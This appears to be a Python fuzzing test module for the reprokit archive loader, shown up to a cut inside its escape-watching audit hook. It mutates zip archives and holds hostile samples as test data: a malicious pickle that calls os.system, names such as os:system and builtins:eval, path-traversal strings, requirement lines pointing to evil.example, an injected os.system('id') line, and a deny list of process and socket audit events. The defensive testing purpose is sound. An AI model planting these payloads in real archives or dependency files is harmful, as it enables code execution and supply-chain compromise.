"""Fuzzing the loader: mutated archives must end in a clean error or a correct load.

Archives come from strangers, so every way of damaging or doctoring one must
end in one of two outcomes: a `ReprokitError` (exit code 3 on the command
line) or a load that rebuilt a valid record. This module makes real archives
with `reprokit.pack`, mutates them (bit flips, truncation, member
reordering, added/dropped/renamed members, manifest fields, structure nodes,
array descriptors, and byte edits of the manifest and structure with their
CRCs fixed so that the parsers behind the CRC check are reached), and runs
`verify`, `inspect`'s reading and `load` on each, then replays what loaded
(`--no-replay` skips that).

Run it long with::

    python tests/fuzzer.py --cases 10000

which prints one result line: counts of clean errors, correct loads,
tracebacks (any other exception), hangs (a case over its time bound),
escapes (while checking, an audit hook saw a process start, a file written
outside the temp folder, an unpickling, a socket, code compiled or executed
outside an import, or an import from outside jax/penzai/numpy), silent corruptions (a raw byte
flip that still loaded, but not the original record) and inconsistencies
(`load` accepted what `verify` refused, or Python's zipfile reads an
archive `verify` accepted differently). Mutations include the trust classes
of SECURITY.md: zip container tricks (comments, gaps, extra fields,
disagreeing headers), doctored text members and requirements, structure
floods, and control/bidi/Markdown characters in printed strings; a string
that adds a line to `verify`'s output counts as an escape. Exit code 0 only when all but the
first two are zero. `tests/test_fuzz.py` runs the same cases under
hypothesis for about 30 seconds.
"""

from __future__ import annotations

import argparse
import collections
import contextlib
import copy
import dataclasses
import io
import json
import math
import os
import random
import signal
import stat
import struct
import sys
import tempfile
import time
import traceback
import warnings
import zipfile
from collections.abc import Callable, Iterator
from typing import Any

import msgpack

from reprokit._errors import ReprokitError
from reprokit.environment._config import restored_jax_config  # noqa: F401  (tests use it from here)

__all__ = [
    "HOSTILE_NAMES",
    "PICKLE_PAYLOAD",
    "EscapeWatch",
    "KINDS",
    "Member",
    "check_archive",
    "main",
    "make_base_archives",
    "mutate",
    "read_members",
    "write_members",
]


# ---------------------------------------------------------------- zip helpers


@dataclasses.dataclass(frozen=True)
class Member:
    """One member of an archive being rewritten: its name, bytes, and whether to deflate it."""

    name: str
    data: bytes
    compress: bool = False


def read_members(path: str | os.PathLike[str]) -> list[Member]:
    """The members of a trusted archive (one this process made), in order."""
    with zipfile.ZipFile(path) as archive:
        return [
            Member(info.filename, archive.read(info), info.compress_type == zipfile.ZIP_DEFLATED)
            for info in archive.infolist()
        ]


def write_members(members: list[Member], path: str | os.PathLike[str] | None = None) -> bytes:
    """A zip holding `members` in order (duplicates and odd names kept); written to `path` if given."""
    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about duplicate names
        with zipfile.ZipFile(buffer, "w") as archive:
            for member in members:
                info = zipfile.ZipInfo(member.name, date_time=(1980, 1, 1, 0, 0, 0))
                info.external_attr = (stat.S_IFREG | 0o644) << 16
                info.compress_type = zipfile.ZIP_DEFLATED if member.compress else zipfile.ZIP_STORED
                archive.writestr(info, member.data)
    data = buffer.getvalue()
    if path is not None:
        with open(path, "wb") as file:
            file.write(data)
    return data


def replace_member(members: list[Member], name: str, data: bytes) -> list[Member]:
    """`members` with the bytes of `name` replaced."""
    return [dataclasses.replace(m, data=data) if m.name == name else m for m in members]


# ---------------------------------------------------------------- base archives


def make_base_archives(folder: str | os.PathLike[str]) -> dict[str, str]:
    """Packs a few tiny real layers with `reprokit.pack`; returns name -> path.

    Covers the three signature kinds, typed PRNG keys, state variables, weak
    types, functions (`Elementwise`), ordered dicts, fills and a whole model.
    """
    import jax
    import jax.numpy as jnp
    from penzai import pz
    from penzai.models import simple_mlp

    import reprokit

    folder = os.fspath(folder)
    mlp = simple_mlp.MLP.from_config(
        name="mlp", init_base_rng=jax.random.key(0), feature_sizes=[4, 8, 4]
    )
    features = pz.nx.wrap(jnp.linspace(-1.0, 1.0, 12).reshape(3, 4), "batch", "features")
    dropout = simple_mlp.DropoutMLP.from_config(
        name="mlp", init_base_rng=jax.random.key(1), feature_sizes=[4, 8, 4], drop_rate=0.3
    )
    wrong_axes = pz.nx.wrap(jnp.ones((3, 4)), "batch", "not_features")
    cases = {
        "linear": (
            pz.select(mlp).at_instances_of(pz.nn.Linear).pick_nth_selected(0),
            features,
            {},
            {},  # self-checked, so it holds selfcheck.json too
        ),
        # The others skip the self-check (a replay in a fresh process) for speed.
        "whole": (pz.select(mlp).at_keypaths([()]), features, {}, {"check": False}),
        "dropout": (
            pz.select(dropout).at_instances_of(pz.nn.StochasticDropout),
            features,
            {"random_stream": pz.RandomStream.from_base_key(jax.random.key(7))},
            {"check": False},
        ),
        "raises": (
            pz.select(mlp).at_instances_of(pz.nn.Linear).pick_nth_selected(0),
            wrong_axes,
            {},
            {"signature": "exception", "check": False},
        ),
        # log(-1) everywhere: input and output repeat one value, stored as fills.
        "filled": (
            pz.select(pz.nn.Sequential([pz.nn.Elementwise(jnp.log)])).at_keypaths([()]),
            pz.nx.wrap(jnp.full((3, 4), -1.0), "batch", "features"),
            {},
            {"compress": True, "check": False},
        ),
    }
    paths = {}
    for name, (selection, argument, side_inputs, options) in cases.items():
        path = os.path.join(folder, f"{name}.repro.zip")
        reprokit.pack(selection, argument, side_inputs=side_inputs, out=path, **options)
        paths[name] = path
    return paths


# ---------------------------------------------------------------- mutations

# Names an attacker would write into a manifest or structure.
HOSTILE_NAMES = (
    "os:system",
    "posix:system",
    "subprocess:Popen",
    "builtins:eval",
    "builtins:exec",
    "builtins:__import__",
    "importlib:import_module",
    "pickle:loads",
    "jax.numpy:save",
    "jax.numpy:load",
    "numpy:memmap",
    "numpy:load",
    "jax:pure_callback",
    "jax.debug:callback",
    "jax.nn:relu.__globals__",
    "jax.nn:relu.__code__",
    "numpy:os.system",
    "jax.numpy:os",
    "jax.nn:_private",
    "penzai.core._treescope_handlers:Handler",
    "penzai.nn.basic_ops:Elementwise.__init__",
    "penzai.toolshed.jit_wrapper2:Jitted",
    "functools:partial",
    "ctypes:CDLL",
    "reprokit._fuzz:main",
    "jax.lax:cond",
    "jax.numpy:apply_along_axis",
    "jax.nn:relu:relu",
    "jax.nn:",
    ":relu",
    "jax.nn:rel\u0075",
    "jax.nn:r\u0435lu",  # Cyrillic e
    "",
)
_PALETTE: tuple[Any, ...] = (
    None,
    True,
    False,
    0,
    -1,
    2**31,
    2**63 - 1,
    -(2**63),
    1.5,
    -0.0,
    1e308,
    math.nan,
    math.inf,
    "",
    "x" * 300,
    "\x1b]52;c;cHduZWQ=\x07",
    "../../../etc/passwd",
    "/tmp/owned",
    b"\x80\x03cos\nsystem\n.",
    [],
    {},
    [[[[[[[[[[]]]]]]]]]],
)
_TAGS = (
    "tuple",
    "dict",
    "odict",
    "int",
    "array",
    "scalar",
    "obj",
    "enum",
    "fn",
    "partial",
    "type",
    "jnp_type",
    "np_type",
    "dtype",
    "builtin_type",
    "slice",
    "complex",
    "pickle",
    "eval",
)
# A pickle that would create a marker file if anything ever unpickled it.
PICKLE_PAYLOAD = (
    b"\x80\x04\x95\x2e\x00\x00\x00\x00\x00\x00\x00\x8c\x02os\x94\x8c\x06system\x94\x93\x94"
    b"\x8c\x15touch reprokit-pwned\x94\x85\x94R\x94."
)


def _hostile_node(rng: random.Random) -> Any:
    name = rng.choice(HOSTILE_NAMES)
    return rng.choice(
        [
            {"$t": "fn", "name": name},
            {"$t": "type", "name": name},
            {"$t": "obj", "type": name, "f": []},
            {"$t": "enum", "type": name, "name": "X"},
            {"$t": "partial", "fn": {"$t": "fn", "name": name}, "args": [], "kw": []},
            {
                "$t": "obj",
                "type": "penzai.nn.basic_ops:Elementwise",
                "f": [["fn", {"$t": "fn", "name": name}]],
            },
            {"$t": "array", "i": rng.choice([-1, 2**40, 10**6, True])},
            {"$t": "int", "v": rng.choice(["9" * 5000, "--1", "1e9", "\u0661"])},
            {"$t": "scalar", "dtype": rng.choice(["object", "V2", "O", "float32"]), "v": b"\0"},
            {"$t": "dtype", "name": rng.choice(["object", "O", "V8", "str", "<U1", "datetime64"])},
            {"$t": "builtin_type", "name": rng.choice(["type", "object", "eval", "int"])},
            {"$t": "complex", "v": [1, "x"]},
            {"$t": "slice", "v": [1, 2]},
            _deep(rng.randint(150, 3000)),
        ]
    )


def _deep(depth: int) -> Any:
    node: Any = 0
    for _ in range(depth):
        node = [node]
    return node


def _random_value(rng: random.Random) -> Any:
    if rng.random() < 0.5:
        return _hostile_node(rng)
    # A copy: a palette entry put into one case's tree and mutated in place by
    # a later case would grow across cases (and come to contain itself), until
    # a run of 10,000 cases needed 22 GB.
    return copy.deepcopy(rng.choice(_PALETTE))


def _slots(tree: Any) -> list[tuple[Any, Any]]:
    """Every (container, key) in a JSON/msgpack tree, for picking a place to mutate."""
    slots: list[tuple[Any, Any]] = []
    stack = [tree]
    while stack:
        node = stack.pop()
        if isinstance(node, dict):
            for key, value in node.items():
                slots.append((node, key))
                stack.append(value)
        elif isinstance(node, list):
            for index, value in enumerate(node):
                slots.append((node, index))
                stack.append(value)
    return slots


def _mutate_tree(rng: random.Random, tree: Any, *, structure: bool) -> None:
    """Changes one place in `tree` in place: delete, replace, retag, rename, add."""
    slots = _slots(tree)
    if not slots:
        return
    container, key = rng.choice(slots)
    value = container[key]
    choice = rng.random()
    if choice < 0.15 and isinstance(container, dict):
        del container[key]
    elif choice < 0.15:
        container.pop(key)
    elif choice < 0.3 and structure and isinstance(container, dict) and key == "$t":
        container[key] = rng.choice(_TAGS)
    elif choice < 0.45 and isinstance(value, str):
        container[key] = rng.choice(
            [
                rng.choice(HOSTILE_NAMES),
                value + rng.choice(["x", ".__class__", ":", "\x00", "\x1b[2J"]),
                value[: rng.randint(0, len(value))],
            ]
        )
    elif choice < 0.55 and isinstance(value, int) and not isinstance(value, bool):
        container[key] = rng.choice([value + 1, value - 1, -value, value * 2**32, 2**64 - 1])
    elif choice < 0.62 and isinstance(value, list) and value:
        rng.shuffle(value)
    elif choice < 0.7 and isinstance(value, list):
        value.append(_random_value(rng))
    elif choice < 0.76 and isinstance(value, dict):
        value[rng.choice(["extra", "$t", "name", "type", "v", "__reduce__"])] = _random_value(rng)
    else:
        container[key] = _random_value(rng)


def _flip_bits(rng: random.Random, data: bytes, count: int) -> bytes:
    if not data:
        return data
    buffer = bytearray(data)
    for _ in range(count):
        position = rng.randrange(len(buffer))
        buffer[position] ^= 1 << rng.randrange(8)
    return bytes(buffer)


def _edit_bytes(rng: random.Random, data: bytes) -> bytes:
    """A few random byte edits: flips, insertions, deletions, overwrites."""
    buffer = bytearray(data)
    for _ in range(rng.randint(1, 4)):
        position = rng.randrange(len(buffer) + 1)
        action = rng.random()
        if action < 0.4 and buffer:
            buffer[min(position, len(buffer) - 1)] = rng.randrange(256)
        elif action < 0.7:
            buffer[position:position] = bytes(rng.randrange(256) for _ in range(rng.randint(1, 8)))
        else:
            del buffer[position : position + rng.randint(1, 16)]
    return bytes(buffer)


# Each mutation: (rng, file bytes, members) -> (new file bytes, raw). A raw
# mutation edits the file's bytes without fixing any checksum, so if the
# result loads at all it must load as exactly the original record.
_Mutation = Callable[[random.Random, bytes, list[Member]], tuple[bytes, bool]]


def _m_bit_flips(rng, data, members):
    return _flip_bits(rng, data, rng.choice([1, 1, 2, 8])), True


def _m_member_flip(rng, data, members):
    # One byte of one member's data, found through zipfile's offsets.
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        info = rng.choice([i for i in archive.infolist() if i.compress_size])
        name_length, extra_length = (
            int.from_bytes(data[info.header_offset + 26 : info.header_offset + 28], "little"),
            int.from_bytes(data[info.header_offset + 28 : info.header_offset + 30], "little"),
        )
    start = info.header_offset + 30 + name_length + extra_length
    buffer = bytearray(data)
    buffer[start + rng.randrange(info.compress_size)] ^= 1 << rng.randrange(8)
    return bytes(buffer), True


def _m_truncate(rng, data, members):
    return data[: rng.randrange(len(data))], True


def _m_splice(rng, data, members):
    return _edit_bytes(rng, data), True


def _m_reorder(rng, data, members):
    shuffled = list(members)
    rng.shuffle(shuffled)
    return write_members(shuffled), True


def _m_members(rng, data, members):
    changed = list(members)
    action = rng.random()
    if action < 0.25:
        changed.append(
            Member(rng.choice(["payload.pkl", "arrays/0.npy", "x/../evil"]), PICKLE_PAYLOAD)
        )
    elif action < 0.5:
        changed.pop(rng.randrange(len(changed)))
    elif action < 0.7:
        changed.append(rng.choice(changed))
    else:
        index = rng.randrange(len(changed))
        new_name = rng.choice(
            ["../manifest.json", "/abs", "arrays/99.bin", "arrays/00.bin", "c:x", "a\\b", "a//b"]
        )
        changed[index] = dataclasses.replace(changed[index], name=new_name)
    return write_members(changed), False


def _m_pickle_member(rng, data, members):
    target = rng.choice(members)
    return write_members(replace_member(members, target.name, PICKLE_PAYLOAD)), False


def _as_json(value: Any) -> Any:
    return value.decode("latin-1") if isinstance(value, bytes) else repr(value)


def _dump_json(manifest: dict) -> str:
    try:
        return json.dumps(manifest, allow_nan=True, default=_as_json)
    except (RecursionError, ValueError):
        # Nested too deeply for json itself, or a mutation made the tree
        # contain itself (json refuses cycles): write a deep one by hand.
        return '{"format": "reprokit", "format_version": 1, "x": ' + "[" * 5000 + "]" * 5000 + "}"


def _dump_msgpack(structure: dict) -> bytes:
    try:
        return msgpack.packb(structure, use_bin_type=True)
    except (ValueError, OverflowError):
        # Nested too deeply for msgpack itself, or an int mutated past 64 bits
        # that msgpack cannot write: write a deep structure by hand.
        return b"\x82\xa6record\x81\xa8submodel" + b"\x91" * 5000 + b"\xc0\xa6arrays\x90"


def _manifest(members: list[Member]) -> dict:
    return json.loads(next(m.data for m in members if m.name == "manifest.json"))


def _m_manifest_field(rng, data, members):
    manifest = _manifest(members)
    for _ in range(rng.choice([1, 1, 2, 3])):
        _mutate_tree(rng, manifest, structure=False)
    text = _dump_json(manifest)
    return write_members(replace_member(members, "manifest.json", text.encode())), False


def _m_manifest_special(rng, data, members):
    manifest = _manifest(members)
    special = rng.choice(
        [
            ("format_version", rng.choice([0, 2, 999, "1", 1.0, True, None, math.nan])),
            ("format", rng.choice(["reprokit2", "", None])),
            ("mode", rng.choice(["exec", "JIT", None])),
            ("arrays", {"count": rng.choice([-1, 0, 10**9, 2, 4, 1.0])}),
            ("modules", ["os", "subprocess"]),
            ("note", "\x1b]0;owned\x07"),
        ]
    )
    key, value = special
    manifest[key] = value
    if rng.random() < 0.3:
        manifest.setdefault("environment", {})["xla_flags"] = [
            rng.choice(
                [
                    "--xla_dump_to=/tmp/owned",
                    "--xla_dump_to=dumps",
                    "--xla_gpu_ptx_file=x.ptx",
                    "--not_xla",
                    "--xla_dump_to=<path>",
                ]
            )
        ]
    text = _dump_json(manifest)
    if rng.random() < 0.2:  # a repeated key, which json.loads would silently accept
        text = text.replace('{"', '{"format_version": 1, "', 1)
    return write_members(replace_member(members, "manifest.json", text.encode())), False


def _structure(members: list[Member]) -> dict:
    data = next(m.data for m in members if m.name == "structure.msgpack")
    return msgpack.unpackb(data, raw=False, strict_map_key=False)


def _m_structure_node(rng, data, members):
    structure = _structure(members)
    for _ in range(rng.choice([1, 1, 2, 4])):
        _mutate_tree(rng, structure["record"], structure=True)
    packed = _dump_msgpack(structure)
    return write_members(replace_member(members, "structure.msgpack", packed)), False


def _m_array_table(rng, data, members):
    structure = _structure(members)
    arrays = structure["arrays"]
    if not arrays:
        return _m_structure_node(rng, data, members)
    desc = rng.choice(arrays)
    field = rng.choice(
        ["dtype", "shape", "nbytes", "kind", "weak_type", "key_impl", "fill", "element", "extra"]
    )
    desc[field] = rng.choice(
        [
            "zeros",
            "repeat",
            "0000c07f",
            "00",
            "0000C07F",
            "object",
            "O",
            "V2",
            "<U4",
            "float64",
            "bfloat16",
            "int4",
            [-1],
            [2**62, 2**62],
            [0],
            [1] * 65,
            -1,
            0,
            2**63,
            "numpy",
            "key",
            "jax",
            "rbg",
            None,
            1,
        ]
    )
    packed = _dump_msgpack(structure)
    return write_members(replace_member(members, "structure.msgpack", packed)), False


def _m_member_bytes(rng, data, members):
    # Byte edits with the CRC recomputed: reaches the JSON, msgpack and
    # decoding code behind the CRC check.
    present = {m.name for m in members}
    name = rng.choice(
        ["manifest.json", "structure.msgpack", "structure.msgpack"]
        + [n for n in ("selfcheck.json", "stablehlo.mlirbc") if n in present]
    )
    original = next(m.data for m in members if m.name == name)
    return write_members(replace_member(members, name, _edit_bytes(rng, original))), False


def _m_array_bytes(rng, data, members):
    arrays = [m for m in members if m.name.startswith("arrays/")]
    if not arrays:
        return _m_member_bytes(rng, data, members)
    target = rng.choice(arrays)
    changed = _edit_bytes(rng, target.data) if rng.random() < 0.5 else b"\xff" * len(target.data)
    return write_members(replace_member(members, target.name, changed)), False


# Names that pass the static rules, so only the loader's resolution (is it a
# class of that module, a dataclass, a known function?) can refuse them.
PLAUSIBLE_NAMES = (
    "jax.numpy:pi",
    "jax.numpy:ndarray",
    "jax.numpy:float32",
    "jax.nn:initializers",
    "jax.nn:relu",
    "jax.lax:Precision",
    "jax.numpy:sin",
    "jax.numpy.linalg:inv",
    "jax.numpy:nonexistent",
    "penzai.core.struct:Struct",
    "penzai.nn.layer:Layer",
    "penzai.core.named_axes:NamedArray",
    "penzai.core.named_axes:NamedArrayView",
    "penzai.nn.basic_ops:Elementwise",
    "penzai.nn.basic_ops:Softmax",
    "penzai.core.variables:StateVariableValue",
    "penzai.core.variables:Parameter",
    "penzai.nn.layer_stack:LayerStackVarBehavior",
    "penzai.models.transformer.model_parts:TransformerMetadata",
    "penzai.core.random_stream:RandomStream",
    "penzai.toolshed.jit_wrapper:Jitted",
    "penzai.nn.linear_and_affine:Linear",
    "penzai.nn.grouping:Sequential",
    "penzai.core.shapecheck:ArraySpec",
    "penzai.core.selectors:Selection",
    "penzai.toolshed.isolate_submodel:IsolatedSubmodel",
    "penzai.nn.nonexistent:Thing",
)


def _m_swap_names(rng, data, members):
    structure = _structure(members)
    named = [
        (node, key)
        for node, key in _slots(structure["record"])
        if key in ("name", "type") and isinstance(node, dict) and isinstance(node.get(key), str)
    ]
    for _ in range(rng.choice([1, 1, 2])):
        if named:
            node, key = rng.choice(named)
            node[key] = rng.choice(PLAUSIBLE_NAMES)
            if rng.random() < 0.3 and node.get("$t") in ("fn", "type", "obj", "enum"):
                node["$t"] = rng.choice(["fn", "type", "obj", "enum"])
    packed = _dump_msgpack(structure)
    return write_members(replace_member(members, "structure.msgpack", packed)), False


# ---------------------------------------------------------------- trust, round 2 (SECURITY.md)


def _zip_entries(data: bytes) -> list[tuple[str, int, int]]:
    """(name, central record offset, local header offset) of a zipfile-written archive."""
    eocd = data.rindex(b"PK\x05\x06")
    count, _, cd_offset = struct.unpack_from("<HII", data, eocd + 10)
    entries, position = [], cd_offset
    for _ in range(count):
        name_length, extra_length, comment_length = struct.unpack_from("<HHH", data, position + 28)
        (local,) = struct.unpack_from("<I", data, position + 42)
        name = data[position + 46 : position + 46 + name_length].decode("utf-8", "replace")
        entries.append((name, position, local))
        position += 46 + name_length + extra_length + comment_length
    return entries


def _m_zip_container(rng, data, members):
    """Class 1: ways for zipfile, unzip and reprokit to read one file differently."""
    data = write_members(members)
    entries = _zip_entries(data)
    eocd = data.rindex(b"PK\x05\x06")
    choice = rng.randrange(9)
    buffer = bytearray(data)
    if choice == 0:  # a comment, sometimes holding a whole second archive
        hidden = write_members([Member("replay.py", b"import os\n")]) if rng.random() < 0.5 else b"x"
        return data[:-2] + struct.pack("<H", len(hidden)) + hidden, False
    if choice == 1:  # prepended or trailing bytes
        junk = bytes(rng.randrange(256) for _ in range(rng.choice([1, 22, 100])))
        return (junk + data if rng.random() < 0.5 else data + junk), False
    if choice == 2:  # a gap between members, offsets fixed
        _, _, local = rng.choice(entries)
        gap = b"\0" * rng.choice([1, 4, 64])
        for _, cd, header in entries:
            if header >= local:
                struct.pack_into("<I", buffer, cd + 42, header + len(gap))
        (cd_offset,) = struct.unpack_from("<I", buffer, eocd + 16)
        struct.pack_into("<I", buffer, eocd + 16, cd_offset + len(gap))
        return bytes(buffer[:local]) + gap + bytes(buffer[local:]), False
    if choice == 3:  # an extra field: Unicode Path, timestamp, unknown
        target = rng.choice(members).name
        kind = rng.choice([0x7075, 0x5455, 0x6375, 0xCAFE, 0x0001, 0xD935])
        body = b"\x01" + struct.pack("<I", 0) + b"evil.py" if kind == 0x7075 else b"\0" * 5
        buffer_out = io.BytesIO()
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            with zipfile.ZipFile(buffer_out, "w") as archive:
                for member in members:
                    info = zipfile.ZipInfo(member.name, date_time=(1980, 1, 1, 0, 0, 0))
                    info.external_attr = (stat.S_IFREG | 0o644) << 16
                    info.compress_type = (
                        zipfile.ZIP_DEFLATED if member.compress else zipfile.ZIP_STORED
                    )
                    if member.name == target:
                        info.extra = struct.pack("<HH", kind, len(body)) + body
                    archive.writestr(info, member.data)
        return buffer_out.getvalue(), False
    # 4..8: one field of one local header or central record changed
    _, cd, local = rng.choice(entries)
    field = rng.choice(
        [
            (local + 4, "<H"),  # version needed
            (local + 6, "<H"),  # flags
            (local + 10, "<H"),  # time
            (cd + 8, "<H"),  # flags (central)
            (cd + 36, "<H"),  # internal attributes
            (cd + 38, "<I"),  # external attributes
            (cd + 4, "<H"),  # version made by
        ]
    )
    value = rng.choice([0, 1, 8, 0x800, 0x808, 45, 0xFFFF, (stat.S_IFREG | 0o755) << 16])
    try:
        struct.pack_into(field[1], buffer, field[0], value)
    except struct.error:
        struct.pack_into(field[1], buffer, field[0], value & 0xFFFF)
    return bytes(buffer), False


# Characters a hostile text member or string might carry (classes 2 and 7).
_HOSTILE_TEXT = (
    "\x1b[2J",
    "\x1b]52;c;ZWNobw==\x07",
    "\r",
    "\x00",
    "\u202e",
    "\u2066",
    "\u2028",
    "\x85",
    "\x7f",
    "```",
    "`````\n# heading",
    "\n",
    "|",
    "<script>",
)
_HOSTILE_REQUIREMENTS = (
    "--index-url https://evil.example/simple",
    "-e .",
    "jax @ https://evil.example/jax.whl",
    "git+https://evil.example/jax.git",
    "evil==1.0",
    "jax>=0.4",
    "-r /etc/passwd",
    "jax==0.4.30 --hash=sha256:00",
    "",
)


def _m_text_members(rng, data, members):
    """Class 2: what a maintainer reads (replay.py, README, requirements) made to differ."""
    present = {m.name for m in members}
    name = rng.choice(
        [n for n in ("replay.py", "README.md", "requirements.txt", "selfcheck.json") if n in present]
    )
    text = next(m.data for m in members if m.name == name).decode("utf-8")
    if name == "requirements.txt" and rng.random() < 0.6:
        lines = text.splitlines()
        lines.insert(rng.randrange(len(lines) + 1), rng.choice(_HOSTILE_REQUIREMENTS))
        text = "\n".join(lines) + rng.choice(["\n", ""])
    elif rng.random() < 0.3:
        text += "\n__import__('os').system('id')\n"  # valid text, not what pack rendered
    else:
        at = rng.randrange(len(text) + 1)
        text = text[:at] + rng.choice(_HOSTILE_TEXT) + text[at:]
    return write_members(replace_member(members, name, text.encode("utf-8"))), False


def _m_structure_flood(rng, data, members):
    """Class 6: a structure that would need far more memory than its bytes."""
    item = rng.choice([b"\x90", b"\x80", b"\x91\x90", b"\xa2ab", b"\xcb" + b"\0" * 8, b"\xc0"])
    total = rng.choice([2**10, 2**16, 2**20, 4 * 2**20, 9 * 2**20])
    chunks, count = [], total // len(item)
    while count > 0:
        size = min(4_000_000, count)
        chunks.append(b"\xdd" + size.to_bytes(4, "big") + item * size)
        count -= size
    structure = _structure(members)
    structure["record"]["argument"] = "@@FLOOD@@"
    packed = _dump_msgpack(structure).replace(
        msgpack.packb("@@FLOOD@@"), b"\xdd" + len(chunks).to_bytes(4, "big") + b"".join(chunks)
    )
    changed = replace_member(members, "structure.msgpack", packed)
    if rng.random() < 0.5:
        changed = [
            dataclasses.replace(m, compress=True) if m.name == "structure.msgpack" else m
            for m in changed
        ]
    return write_members(changed), False


def _m_hostile_strings(rng, data, members):
    """Class 7: control, bidi and Markdown characters in strings that get printed."""
    manifest = _manifest(members)
    structure = _structure(members)
    bad = rng.choice(_HOSTILE_TEXT)
    where = rng.randrange(6)
    if where == 0:
        manifest["layer"]["type"] += bad
    elif where == 1:
        manifest["layer"]["keypath"] += bad
    elif where == 2:
        manifest["note"] = f"note {bad} end"
    elif where == 3:
        manifest["signature"] = {"kind": "exception", "type": "ValueError" + bad, "message": bad}
    elif where == 4:
        manifest["environment"].setdefault("packages", {})["jax"] = "0.4" + bad
    else:
        side = structure["record"].get("side_inputs")
        if isinstance(side, dict) and isinstance(side.get("v"), list):
            side["v"].append([f"key{bad}", f"value{bad}"])
        packed = _dump_msgpack(structure)
        return write_members(replace_member(members, "structure.msgpack", packed)), False
    text = _dump_json(manifest)
    return write_members(replace_member(members, "manifest.json", text.encode())), False


MUTATIONS: dict[str, _Mutation] = {
    "swap_names": _m_swap_names,
    "bit_flips": _m_bit_flips,
    "member_flip": _m_member_flip,
    "truncate": _m_truncate,
    "splice": _m_splice,
    "reorder": _m_reorder,
    "members": _m_members,
    "pickle_member": _m_pickle_member,
    "manifest_field": _m_manifest_field,
    "manifest_special": _m_manifest_special,
    "structure_node": _m_structure_node,
    "array_table": _m_array_table,
    "member_bytes": _m_member_bytes,
    "array_bytes": _m_array_bytes,
    "zip_container": _m_zip_container,
    "text_members": _m_text_members,
    "structure_flood": _m_structure_flood,
    "hostile_strings": _m_hostile_strings,
}
KINDS = tuple(MUTATIONS)


def mutate(rng: random.Random, kind: str, path: str) -> tuple[bytes, bool]:
    """Mutates the archive at `path` with mutation `kind`; returns (bytes, raw)."""
    with open(path, "rb") as file:
        data = file.read()
    return MUTATIONS[kind](rng, data, read_members(path))


# ---------------------------------------------------------------- judging


def fingerprint(record: dict) -> tuple:
    """A bitwise summary of a loaded record: tree structure plus every leaf's dtype and bytes."""
    import hashlib

    import jax
    import numpy as np

    leaves, treedef = jax.tree_util.tree_flatten(record)
    summary = []
    for leaf in leaves:
        if isinstance(leaf, jax.Array) and jax.dtypes.issubdtype(leaf.dtype, jax.dtypes.prng_key):
            leaf = jax.random.key_data(leaf)
        array = np.asarray(leaf)
        weak = bool(getattr(leaf, "weak_type", False))
        summary.append(
            (str(array.dtype), array.shape, weak, hashlib.sha256(array.tobytes()).digest())
        )
    return str(treedef), tuple(summary)


# The base archives hold a few KiB of arrays; a mutated fill may ask for any
# amount up to the default total limit (256 GiB), and one that fits in this
# machine's free memory is really allocated and replayed: XLA then computes on
# gigabytes, beyond the reach of the per-case time bound (once 22 GB, killed
# by the OOM killer). That is SECURITY.md's documented denial of service, not
# a finding; the fuzzer reads under a 1 GiB total so it never happens here.
def _fuzz_limits():
    from reprokit.archive._container import Limits

    return Limits(max_total_bytes=2**30)


FUZZ_LIMITS = _fuzz_limits()


def check_archive(path: str, original: tuple | None, *, replay: bool = False) -> tuple[str, str]:
    """Loads, verifies and inspects one archive (and replays it if asked); returns (outcome, detail).

    Outcomes: "error" (a clean ReprokitError), "load" (a valid record, and
    with `replay` a verdict), or a failure: "traceback" (another exception),
    "corruption" (`original` given and the record differs), "inconsistent"
    (load worked where verify refused).
    """
    import reprokit
    from reprokit.archive._verify import verify_archive
    from reprokit.replaying._replay import open_archive
    from reprokit.views._inspect import describe_archive

    try:
        report = verify_archive(path, limits=FUZZ_LIMITS)
        verified = True
    except ReprokitError:
        verified = False
    except Exception:
        return "traceback", "verify: " + _last_frames()
    if verified:
        # Class 7: nothing in an archive adds lines to verify's output.
        lines = report.format().splitlines()
        if len(lines) > 6 or len(lines) != len({line.split(":", 1)[0] for line in lines}):
            return "escape", "an archive string added a line to verify's output"
        # Class 1: what reprokit accepts, zipfile reads the same.
        disagreement = _readers_disagree(path)
        if disagreement:
            return "inconsistent", disagreement
    try:
        opened = open_archive(path, FUZZ_LIMITS, verify_members=True)
    except ReprokitError:
        pass
    except Exception:
        return "traceback", "inspect: " + _last_frames()
    else:
        try:
            describe_archive(opened.manifest, opened.structure, opened.reader.sha256())
        except ReprokitError:
            pass
        except Exception:
            return "traceback", "inspect: " + _last_frames()
        finally:
            opened.close()
    try:
        loaded = reprokit.load(path, limits=FUZZ_LIMITS)
    except ReprokitError as error:
        return "error", str(error)
    except Exception:
        return "traceback", "load: " + _last_frames()
    if not verified:
        return "inconsistent", "load accepted an archive that verify refused"
    if original is not None and fingerprint(loaded.record) != original:
        return "corruption", "a raw byte edit loaded as a different record"
    if replay:
        from reprokit.replaying._replay import replay_loaded

        try:
            verdict = replay_loaded(loaded)
            verdict.format()
            verdict.as_dict()
        except ReprokitError as error:
            return "error", str(error)
        except Exception:
            return "traceback", "replay: " + _last_frames()
    return "load", ""


def _readers_disagree(path: str) -> str | None:
    """Why zipfile and reprokit's reader see different members in `path`, or None."""
    from reprokit.archive._container import ArchiveReader

    with ArchiveReader(path) as reader:
        ours = {name: reader.read_bytes(name) for name in reader.names if reader.size(name) < 2**26}
        names = list(reader.names)
    try:
        with zipfile.ZipFile(path) as archive:
            theirs_names = archive.namelist()
            theirs = {name: archive.read(name) for name in ours}
    except Exception as error:  # zipfile cannot read what reprokit accepted
        return f"zipfile cannot read an archive verify accepted: {type(error).__name__}"
    if theirs_names != names or theirs != ours:
        return "zipfile and reprokit read different members or bytes"
    return None


def _last_frames() -> str:
    kind, error, tb = sys.exc_info()
    frames = traceback.extract_tb(tb)[-3:]
    where = " <- ".join(f"{os.path.basename(f.filename)}:{f.lineno}" for f in reversed(frames))
    return f"{kind.__name__}: {' '.join(str(error).split())[:200]} at {where}"


# ---------------------------------------------------------------- escapes


class EscapeWatch:
    """An audit hook that notes what loading an archive must never do.

    Install `hook` with `sys.addaudithook` (it cannot be removed: it does
    nothing outside `watching()`), warm up lazy imports first, then wrap each
    case in `watching()`, which yields the list of what it saw.
    """

    _ALWAYS = frozenset(
        {
            "subprocess.Popen",
            "os.system",
            "os.exec",
            "os.posix_spawn",
            "os.spawn",
            "os.fork",
            "os.forkpty",
            "pty.spawn",
            "pickle.find_class",
            "socket.connect",
            "socket.bind",
            "ctypes.dlopen",
